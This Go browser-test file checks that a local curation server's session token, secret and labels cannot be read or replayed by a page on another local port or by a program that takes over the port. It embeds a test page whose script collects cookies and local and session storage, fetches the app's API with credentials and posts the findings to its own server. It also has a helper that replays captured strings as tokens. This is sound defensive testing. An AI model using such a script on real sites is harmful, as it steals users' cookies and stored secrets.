//go:build browser

package browsertest

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"hgld/curate/serve"
	"hgld/internal/testing/must"

	"github.com/chromedp/chromedp"
)

// overhearing is a server that records everything it is sent. Its page sends it what the page can
// find in the browser.
type overhearing struct {
	page string

	mu    sync.Mutex
	heard []string // values of headers, addresses, bodies
	edits int      // requests to make one
	dumps []string // what its page found
}

func (o *overhearing) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return // the browser has gone
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.heard = append(o.heard, r.RequestURI, string(body))
	for _, values := range r.Header {
		o.heard = append(o.heard, values...)
	}
	switch r.URL.Path {
	case "/":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, o.page)
	case "/dump":
		o.dumps = append(o.dumps, string(body))
	case "/api/edit":
		o.edits++
		fallthrough
	default: // as if all were well
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set(serve.ProofHeader, r.Header.Get(serve.NonceHeader))
		fmt.Fprint(w, `{"seq":99,"version":99,"undo":0,"redo":0,"sizes":[23,99,2],"tags":{},"groups":[]}`)
	}
}

// all is what was overheard, in pieces that could be secrets.
func (o *overhearing) all() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	pieces := func(r rune) bool { return strings.ContainsRune(" \t\n\"'{}[]:,;=&?#\\", r) }
	var list []string
	for _, text := range append(slices.Clone(o.heard), o.dumps...) {
		list = append(list, text)
		list = append(list, strings.FieldsFunc(text, pieces)...)
	}
	slices.Sort(list)
	return slices.DeleteFunc(slices.Compact(list),
		func(s string) bool { return len(s) < 8 || strings.ContainsAny(s, "\r\n\x00") })
}

func (o *overhearing) dumped() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.dumps, "\n")
}

// tellAll is a page whose script sends what it finds to its own server.
const tellAll = `<!DOCTYPE html><title>local</title><script type="module">
const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
for (const path of %s) {
	for (const o of [{}, {credentials: "include"}, {mode: "no-cors", credentials: "include"}]) {
		try { const r = await fetch(path, o); found.push(path, await r.text()); } catch (e) { found.push(String(e)); }
	}
}
await fetch("/dump", {method: "POST", body: found.join("\n")});
document.title = "told";
</script>`

// accepted sends requests to a server with each of the texts in each place for a secret, as a
// program can, and returns the answers that are not refusals.
func accepted(t *testing.T, s *server, texts []string) (answered []string) {
	t.Helper()
	address := "127.0.0.1:" + s.port
	ask := func(method, path, body, token, cookie string) {
		r, err := http.NewRequest(method, "http://"+address+path, strings.NewReader(body))
		if err != nil {
			return // no such address
		}
		r.Header = http.Header{serve.TokenHeader: {token}, "Cookie": {"hgld-" + s.port + "=" + cookie},
			"Origin": {"http://" + address}, "Content-Type": {"application/json"}}
		resp, err := http.DefaultTransport.RoundTrip(r)
		if err != nil {
			return // a text that no header may hold
		}
		defer resp.Body.Close()
		if data, err := io.ReadAll(resp.Body); err != nil || resp.StatusCode != http.StatusForbidden {
			answered = append(answered, fmt.Sprintf("%s %s with %.40q: %s %.200s %v", method, path, token, resp.Status, data,
				err))
		}
	}
	for _, text := range append(texts, "") {
		ask("GET", "/api/state", "", text, text)
		ask("POST", "/api/edit", `{"id":"12345678","base":0,"op":"move","from":[{"name":"church"}],"to":"stolen"}`, text,
			text)
		key := must.Get(json.Marshal(map[string]string{"key": text}))(t)
		ask("POST", "/api/open", string(key), text, text)
	}
	return answered
}

// Another local server that the curator opens in the same browser learns no secret with which it,
// or its page, could read the labels or make an edit. A browser sends a cookie to all ports of a
// host.
func TestOtherPortsLearnNoSecret(t *testing.T) {
	s, b := openPage(t, smallProject(t))
	base := s.address()
	b.Keys("l")
	b.moveTo("one")
	b.saved(1)
	if found := eval[string](b, `document.cookie + location.href`); strings.Contains(found, "key=") ||
		strings.Contains(found, "hgld") {
		t.Errorf("the page's cookies and address are %s", found)
	}
	o := &overhearing{page: fmt.Sprintf(tellAll,
		fmt.Sprintf(`[%q, %q, %q, %q]`, base, base+"api/state", base+"page/app.js", base+"api/changes?since=0"))}
	web := httptest.NewServer(o)
	defer web.Close()
	other := b.NewTab()
	other.IgnoreTrouble() // its requests to the page's server fail
	other.Run(chromedp.Navigate(web.URL))
	other.Until("the page of the other port has told all", `document.title === "told"`)
	if dump := o.dumped(); strings.Contains(dump, "church") || strings.Contains(dump, "edits.jsonl") {
		t.Errorf("the page of another port has read:\n%s", dump)
	}
	pass := eval[map[string]string](b, `JSON.parse(sessionStorage.getItem("hgld pass"))`)
	for _, text := range o.all() {
		if strings.Contains(text, pass["token"]) || strings.Contains(text, pass["secret"]) {
			t.Errorf("the server of another port was sent %q", text)
		}
	}
	if answered := accepted(t, s, o.all()); len(answered) > 0 {
		t.Errorf("with what it was sent it was answered:\n%s", strings.Join(answered, "\n"))
	}
	s.stop()
	if edits := s.edits(); len(edits) != 1 {
		t.Errorf("the log has %d edits; want Anna's own", len(edits))
	}
}

// A program takes the port after the server has ended. The page neither sends it an edit nor
// believes that one is saved. Though its own page runs at the same address, the program learns
// nothing that the next server accepts. Unsaved edits are sent once the next link is opened.
func TestPageRejectsAServerThatTakesThePort(t *testing.T) {
	s, b := openPage(t, smallProject(t))
	b.Keys("l")
	b.moveTo("one")
	b.saved(1)
	reloaded := b.anotherTab(s)
	s.kill()

	o := &overhearing{page: fmt.Sprintf(tellAll, `["/"]`)}
	l := must.Get(net.Listen("tcp", "127.0.0.1:"+s.port))(t)
	squatter := &http.Server{Handler: o}
	go squatter.Serve(l) // ends by Close
	b.alarms("has ended. Nothing is lost")
	b.Keys("j")
	b.moveTo("two")
	b.Keys("j")
	b.moveTo("three")
	b.unsaved(2)
	reloaded.Run(chromedp.Navigate(s.address() + "?again"))
	reloaded.Until("the squatter's page has told all", `document.title === "told"`)
	if dump := o.dumped(); !strings.Contains(dump, "hgld pass") {
		t.Errorf("the squatter's page did not find what the tab had:\n%s", dump)
	}
	o.mu.Lock()
	edits := o.edits
	o.mu.Unlock()
	if edits > 0 {
		t.Errorf("the squatter was told %d edits", edits)
	}
	must.Do(t, squatter.Close())

	s.start()
	if answered := accepted(t, s, o.all()); len(answered) > 0 {
		t.Errorf("with what the squatter was sent the next server answers:\n%s", strings.Join(answered, "\n"))
	}
	b.unsaved(2)
	b.openHere(s.url)
	b.saved(3)
	b.calm()
	s.stop()
	if to := targets(s.edits()); fmt.Sprint(to) != "[one two three]" {
		t.Errorf("the log has %v", to)
	}
}
